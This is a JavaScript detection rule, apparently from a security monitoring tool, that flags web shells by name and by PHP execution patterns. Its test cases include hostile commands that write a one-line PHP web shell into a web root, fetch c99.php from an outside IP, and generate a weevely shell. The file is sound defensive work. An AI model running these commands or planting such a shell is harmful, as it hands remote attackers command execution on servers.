import { commandRule } from "../rule.js";

/** A file that lets whoever reaches the web server run commands. */
export const webShellUsed = commandRule({
  id: "web-shell-used",
  alertType: "IoT_WebShell",
  name: "Web shell",
  severity: "High",
  about: "A file that lets whoever reaches the web server run commands.",
  tactics: ["Persistence"],
  techniques: ["T1505.003"],
  witness: [
    "c99",
    "r57",
    "wso",
    "b374k",
    "weevely",
    "eval(",
    "system($_",
    "shell_exec",
    "passthru",
    "base64_decode",
  ],
  patterns: [
    /\b(?:c99|r57|wso\d*|b374k|weevely\d?|phpspy|indoxploit)(?:shell)?\.?(?:php|py)?\b/i,
    /(?:eval|assert|system|shell_exec|passthru|exec)\s*\(\s*(?:base64_decode\s*\(|\$_(?:GET|POST|REQUEST|COOKIE)).*/i,
  ],
  did: "used a web shell",
  because: "it is or writes a known kind of web shell",
  fires: [
    "sh -c echo '<?php system($_GET[0]); ?>' > /var/www/html/x.php",
    "wget http://203.0.113.9/c99.php",
    "weevely generate pass /tmp/a.php",
  ],
  silent: ["php -v", "php /var/www/html/artisan migrate", "systemctl restart php8.2-fpm"],
});
